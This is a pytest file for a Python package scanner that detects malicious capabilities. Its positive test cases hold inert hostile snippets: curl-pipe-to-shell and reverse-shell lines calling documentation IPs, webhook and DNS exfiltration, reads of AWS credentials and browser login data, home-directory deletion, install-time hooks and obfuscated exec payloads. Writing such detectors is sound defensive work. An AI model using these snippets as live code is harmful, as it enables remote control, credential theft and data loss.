"""Each capability id: a positive case and a near-miss negative, as a moderator would check.

Sources are inert text analysed as data; every address is a documentation address.
"""

from __future__ import annotations

import base64
import zlib

import pytest

from app.core.capabilities.model import severity_rank
from app.core.capabilities.scan import scan_text


def caps(path: str, src: str, at_least: str = "low") -> dict[str, str]:
    """capability -> highest severity among hits of at least ``at_least``."""
    out: dict[str, str] = {}
    for h in scan_text(path, src):
        if severity_rank(h.severity) >= severity_rank(at_least):
            if severity_rank(h.severity) > severity_rank(out.get(h.capability, "none")):
                out[h.capability] = h.severity
    return out


B64_PAYLOAD = base64.b64encode(b"import os\nos.system('id')\n").decode()

# (capability, positive path, positive source, negative path, negative source)
CASES = [
    (
        "process.spawn",
        "pkg/run.py",
        "import subprocess as sp\ndef f(c):\n    sp.Popen(c)\n",
        "pkg/plat.py",
        "import platform\ndef f():\n    return platform.system()\n",
    ),
    (
        "process.spawn_hidden",
        "setup.py",
        "import subprocess\nsubprocess.Popen(['x'], creationflags=0x08000000)\n",
        "pkg/run.py",
        "import subprocess\ndef f():\n    subprocess.run(['git', 'status'])\n",
    ),
    (
        "process.shell_download",
        "pkg/i.py",
        "import os\ndef f():\n    os.system('curl -s http://192.0.2.1/i.sh | sh')\n",
        "pkg/i.py",
        "def f():\n    return 'use curl to download the file'\n",
    ),
    (
        "exec.dynamic",
        "pkg/m.py",
        "def run(code):\n    exec(code)\n",
        "pkg/m.py",
        "def run():\n    exec('x = 1')\n",
    ),
    (
        "exec.decode_then_exec",
        "pkg/m.py",
        f"import base64\nexec(base64.b64decode('{B64_PAYLOAD}'))\n",
        "pkg/m.py",
        f"import base64\ndata = base64.b64decode('{B64_PAYLOAD}')\nprint(len(data))\n",
    ),
    (
        "exec.remote_code",
        "pkg/m.py",
        "from urllib.request import urlopen\ndef f():\n    code = urlopen('https://example.invalid/p').read()\n    exec(code)\n",
        "pkg/m.py",
        "from urllib.request import urlopen\ndef f():\n    return urlopen('https://example.invalid/p').read()\n",
    ),
    (
        "exec.deserialize",
        "pkg/m.py",
        "import pickle\ndef load(b):\n    return pickle.loads(b)\n",
        "pkg/m.py",
        "import json\ndef load(b):\n    return json.loads(b)\n",
    ),
    (
        "exec.native_load",
        "pkg/m.py",
        "import ctypes\ndef f(p):\n    return ctypes.CDLL(p + '/payload.so')\n",
        "pkg/m.py",
        "import ctypes\ndef f():\n    return ctypes.c_int(3)\n",
    ),
    (
        "net.outbound",
        "pkg/m.py",
        "import requests\ndef f():\n    return requests.get('https://example.invalid')\n",
        "pkg/m.py",
        "from pathlib import Path\ndef f(p):\n    return Path(p).resolve()\n",
    ),
    (
        "net.download_to_disk",
        "pkg/m.py",
        "import urllib.request\ndef f():\n    urllib.request.urlretrieve('https://example.invalid/a.exe', 'a.exe')\n",
        "pkg/m.py",
        "def f(data):\n    with open('out.bin', 'wb') as fh:\n        fh.write(data)\n",
    ),
    (
        "net.reverse_shell",
        "pkg/m.py",
        "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.5', 4444))\nos.dup2(s.fileno(), 0)\n",
        "pkg/m.py",
        "import os\ndef f(a, b):\n    os.dup2(a, b)\n",
    ),
    (
        "net.exfil_endpoint",
        "pkg/m.py",
        "URL = 'https://discord.com/api/webhooks/123456/abcdef'\n",
        "pkg/m.py",
        "HELP = 'Join us on https://discord.com/invite/abc'\n",
    ),
    (
        "net.dns_exfil",
        "pkg/m.py",
        "import socket, getpass\ndef f():\n    socket.gethostbyname(getpass.getuser() + '.x.example.invalid')\n",
        "pkg/m.py",
        "import socket\ndef f():\n    return socket.gethostbyname('example.invalid')\n",
    ),
    (
        "cred.env_bulk",
        "pkg/m.py",
        "import os, json\ndef f():\n    return json.dumps(dict(os.environ))\n",
        "pkg/m.py",
        "import os\ndef f():\n    return os.environ.get('HOME')\n",
    ),
    (
        "cred.secret_files",
        "pkg/m.py",
        "def f():\n    return open('/home/u/.aws/credentials').read()\n",
        "pkg/m.py",
        "def f():\n    return open('/home/u/notes.txt').read()\n",
    ),
    (
        "cred.browser_data",
        "pkg/m.py",
        "P = r'AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'\n",
        "pkg/m.py",
        "# keep a local state machine\nstate = 'login data entered'\n",
    ),
    (
        "collect.sysinfo",
        "pkg/m.py",
        "import socket\ndef f():\n    return socket.gethostname()\n",
        "pkg/m.py",
        "import platform\ndef f():\n    return platform.python_version()\n",
    ),
    (
        "collect.user_input",
        "pkg/m.py",
        "import pyperclip\ndef f():\n    return pyperclip.paste()\n",
        "pkg/m.py",
        "def f():\n    return input('name? ')\n",
    ),
    (
        "fs.write_outside",
        "pkg/m.py",
        "import os\ndef f():\n    open(os.path.expanduser('~/x.bin'), 'wb').write(b'1')\n",
        "pkg/m.py",
        "import os\ndef f():\n    open(os.path.expanduser('~/x.cfg')).read()\n",
    ),
    (
        "persist.autostart",
        "pkg/m.py",
        "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n        fh.write('x')\n",
        "pkg/m.py",
        "def f():\n    return 'add this to your shell profile'\n",
    ),
    (
        "impact.destructive",
        "pkg/m.py",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
        "pkg/m.py",
        "import shutil\ndef clean(build_dir):\n    shutil.rmtree(build_dir)\n",
    ),
    (
        "obf.encoded_blob",
        "pkg/m.py",
        "BLOB = '" + "QUJD" * 400 + "'\n",
        "pkg/m.py",
        "TEXT = '" + "hello world " * 100 + "'\n",
    ),
    (
        "obf.packer",
        "pkg/m.py",
        "import os\nf = getattr(os, 'sys' + 'tem')\n",
        "pkg/m.py",
        "def f(obj, n):\n    return getattr(obj, f'do_{n}')\n",
    ),
    (
        "obf.unicode_trick",
        "pkg/m.py",
        "access = 'user' # \u202e } \u2066 if admin \u2069 \u2066\n",
        "pkg/m.py",
        "greeting = 'h\u00e9llo'\n",
    ),
    (
        "install.setup_code",
        "setup.py",
        "import requests\nfrom setuptools import setup\nrequests.post('https://example.invalid', data='x')\nsetup(name='x')\n",
        "setup.py",
        "from setuptools import setup\nsetup(name='x', version=open('VERSION').read())\n",
    ),
    (
        "install.pth_hook",
        "evil.pth",
        "import os; os.system('id')\n",
        "paths.pth",
        "./lib\n../shared\n",
    ),
]


@pytest.mark.parametrize("cap,ppath,psrc,npath,nsrc", CASES, ids=[c[0] for c in CASES])
def test_positive_and_near_miss(cap, ppath, psrc, npath, nsrc):
    assert cap in caps(ppath, psrc), f"{cap} not found in positive case"
    assert cap not in caps(
        npath, nsrc, at_least="medium" if cap.startswith(("obf.", "net.outbound")) else "low"
    ), f"{cap} wrongly found in near-miss"


def test_every_hit_has_all_fields_and_a_snippet_with_context():
    src = "import os\n\ndef f():\n    os.system('ls')\n    return 1\n"
    (hit,) = [h for h in scan_text("pkg/m.py", src) if h.capability == "process.spawn"]
    assert (hit.line, hit.end_line, hit.column) == (4, 4, 4)
    assert hit.snippet.splitlines() == ["def f():", "    os.system('ls')", "    return 1"]
    assert hit.rule and hit.explanation.endswith(".") and "os.system" in hit.match


def test_http_in_library_function_low_but_high_in_setup_and_top_level():
    in_func = "import requests\ndef f():\n    requests.get('https://example.invalid')\n"
    top = "import requests\nrequests.get('https://example.invalid')\n"
    assert caps("pkg/m.py", in_func)["net.outbound"] == "low"
    assert caps("pkg/m.py", top)["net.outbound"] == "high"
    assert caps("setup.py", top)["net.outbound"] == "high"


def test_subprocess_in_cli_helper_is_not_high():
    src = "import subprocess\n\ndef _run_git(args):\n    return subprocess.check_output(['git', *args])\n"
    assert severity_rank(caps("pkg/cli.py", src)["process.spawn"]) < severity_rank("high")


def test_exec_of_file_in_benchmark_is_not_critical():
    src = "def main(path):\n    with open(path) as f:\n        exec(f.read())\n"
    found = caps("benchmarks/run_bench.py", src)
    assert "exec.dynamic" in found and severity_rank(found["exec.dynamic"]) < severity_rank("high")
    assert "exec.decode_then_exec" not in found and "exec.remote_code" not in found


def test_tests_are_lowered_one_step_but_never_skipped():
    src = "def run(code):\n    exec(code)\n"
    assert caps("pkg/runner.py", src)["exec.dynamic"] == "medium"
    assert caps("tests/test_runner.py", src)["exec.dynamic"] == "low"
    assert caps("docs/conf_helper.py", src)["exec.dynamic"] == "low"
    # import-time weight is for code users import; a test module is run by developers
    top = "import requests\nrequests.get('https://example.invalid')\n"
    assert caps("tests/test_net.py", top)["net.outbound"] == "low"


def test_alias_resolution_and_name_folding():
    src = (
        "import importlib\n"
        "m = importlib.import_module('o' + 's')\n"
        "run = getattr(m, ''.join(['sys', 'tem']))\n"
        "def f():\n    run('id')\n"
    )
    assert "process.spawn" in caps("pkg/m.py", src)
    src2 = (
        "s = __import__(''.join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))\n"
        "def f():\n    s.Popen(['id'])\n"
    )
    assert "process.spawn" in caps("pkg/m.py", src2)
    src3 = "x = globals()['__builtins__']\ne = getattr(x, 'ex' + 'ec')\ndef f(c):\n    e(c)\n"
    assert "exec.dynamic" in caps("pkg/m.py", src3)


def test_decoders_reversed_hex_and_zlib_layers_fold_to_decode_then_exec():
    inner = zlib.compress(b"print('hi')")
    src = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(inner).decode()}')))\n"
    assert caps("pkg/m.py", src)["exec.decode_then_exec"] == "critical"
    rev = "exec(')1(tnirp'[::-1])\n"
    assert "exec.decode_then_exec" in caps("pkg/m.py", rev)
    hexed = f"exec(bytes.fromhex('{b'print(1)'.hex()}'))\n"
    assert "exec.decode_then_exec" in caps("pkg/m.py", hexed)


def test_decoded_payload_is_scanned_as_code():
    payload = base64.b64encode(
        b"import os\nos.system('curl http://198.51.100.4/x | bash')\n"
    ).decode()
    hits = scan_text("pkg/m.py", f"import base64\nexec(base64.b64decode('{payload}'))\n")
    shell = [h for h in hits if h.capability == "process.shell_download"]
    assert shell and shell[0].line == 2 and "decoded" in shell[0].explanation.lower()


def test_flow_from_decoder_through_variables():
    src = (
        "import base64\n\ndef go(blob):\n    data = base64.b64decode(blob)\n"
        "    code = data.decode()\n    exec(code)\n"
    )
    # data that arrives at run time (a parameter, a pipe): found, weighed as a capability
    assert caps("pkg/m.py", src)["exec.decode_then_exec"] == "medium"
    # the same flow on import, or from a constant in the code, is a payload
    assert caps("pkg/m.py", src + "go(KEY)\n")["exec.decode_then_exec"] == "critical"
    const = src.replace("def go(blob):", "BLOB = 'cHJpbnQoMSk='\ndef go():").replace(
        "b64decode(blob)", "b64decode(BLOB)"
    )
    assert caps("pkg/m.py", const)["exec.decode_then_exec"] == "critical"


def test_download_chmod_run_flow():
    src = (
        "import os, subprocess, urllib.request\n\ndef install():\n"
        "    p = os.path.join(os.path.expanduser('~'), 'x.sh')\n"
        "    urllib.request.urlretrieve('https://example.invalid/x.sh', p)\n"
        "    os.chmod(p, 0o755)\n    subprocess.run(['/bin/bash', p])\n"
    )
    found = caps("pkg/post_install.py", src)
    assert found["net.download_to_disk"] == "high"


def test_unparsable_python_falls_back_to_patterns_and_says_so():
    src = "print 'python 2'\nimport os\nos.system('curl http://192.0.2.9/x | sh')\n"
    hits = scan_text("pkg/old.py", src)
    assert any(h.capability == "scan.unparsed" and "pattern rules" in h.explanation for h in hits)
    assert any(h.capability == "process.shell_download" for h in hits)


def test_whitespace_pushed_code_and_lambda_chains():
    pushed = "x = 1" + " " * 300 + "; __import__('os').system('id')\n"
    assert caps("pkg/m.py", pushed).get("obf.packer") == "high"
    chain = "f = " + "lambda a: " * 8 + "a\n"
    assert "obf.packer" in caps("pkg/m.py", chain)


def test_class_body_and_functions_called_at_import_weigh_more():
    body = "import requests\nclass C:\n    r = requests.get('https://example.invalid')\n"
    assert caps("pkg/m.py", body)["net.outbound"] == "high"
    called = "import requests\ndef boot():\n    requests.get('https://example.invalid')\nboot()\n"
    assert caps("pkg/m.py", called)["net.outbound"] == "high"


def test_egg_info_cmdclass_override_runs_at_install():
    src = (
        "from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n"
        "import subprocess\nclass E(egg_info):\n    def run(self):\n"
        "        subprocess.Popen(['sh', '-c', 'id'])\n        egg_info.run(self)\n"
        "setup(name='x', cmdclass={'egg_info': E})\n"
    )
    found = caps("setup.py", src)
    assert found["process.spawn"] == "high" and found["install.setup_code"] == "high"


def test_version_exec_in_setup_py_is_not_an_install_threat():
    src = (
        "from setuptools import setup\nabout = {}\n"
        "with open('pkg/__version__.py') as f:\n    exec(f.read(), about)\nsetup(name='x')\n"
    )
    found = caps("setup.py", src)
    assert severity_rank(found.get("exec.dynamic", "none")) <= severity_rank("low")
    assert "install.setup_code" not in found


def test_trojanised_function_sends_its_key_parameter_to_a_bare_ip():
    src = (
        "import requests\nURL = 'http://203.0.113.50:8000/api'\n\n"
        "def validate(private_key, rpc):\n    payload = {'sig': private_key.encode().hex()}\n"
        "    return requests.post(URL, json=payload)\n"
    )
    found = caps("chainpkg/__init__.py", src)
    assert found["net.outbound"] == "high" and found["net.exfil_endpoint"] == "high"
    benign = (
        "import requests\n\ndef fetch(session_id):\n"
        "    return requests.post('https://example.invalid/api', json={'id': session_id})\n"
    )
    assert caps("pkg/api.py", benign) == {"net.outbound": "low"}


def test_setup_requires_is_reported_and_urls_are_high():
    src = (
        "from setuptools import setup\nsetup(name='x', setup_requires=['setuptools_scm', 'evilhelper',"
        " 'git+https://example.invalid/x.git'])\n"
    )
    hits = [h for h in scan_text("setup.py", src) if h.rule.startswith("py.setup_requires")]
    assert {h.capability: h.severity for h in hits} == {
        "install.setup_code": "medium",
        "meta.url_dependency": "high",
    }
    plain = "from setuptools import setup\nsetup(name='x', setup_requires=['setuptools_scm'])\n"
    assert caps("setup.py", plain)["install.setup_code"] == "low"
